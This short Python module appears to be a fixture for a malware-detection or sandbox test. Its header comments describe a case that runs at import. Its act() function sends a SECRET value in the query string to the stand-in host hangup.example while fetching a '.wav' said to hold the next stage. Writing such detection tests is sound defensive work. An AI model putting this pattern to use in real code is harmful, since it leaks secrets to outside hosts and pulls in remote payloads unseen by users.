# act: fetches a sound file that holds the next stage
# source: MAL-2026-2254
# when: import
# rule: outbound_connectivity
# asks: connect hangup.example:80
# says: hangup.example
# proof: arrived
# to: hangup.example
import urllib.request

from . import incident


def act():
    url = f"http://hangup.example/a.wav?{incident.SECRET}"
    with urllib.request.urlopen(url, timeout=10) as got:
        assert got.read()
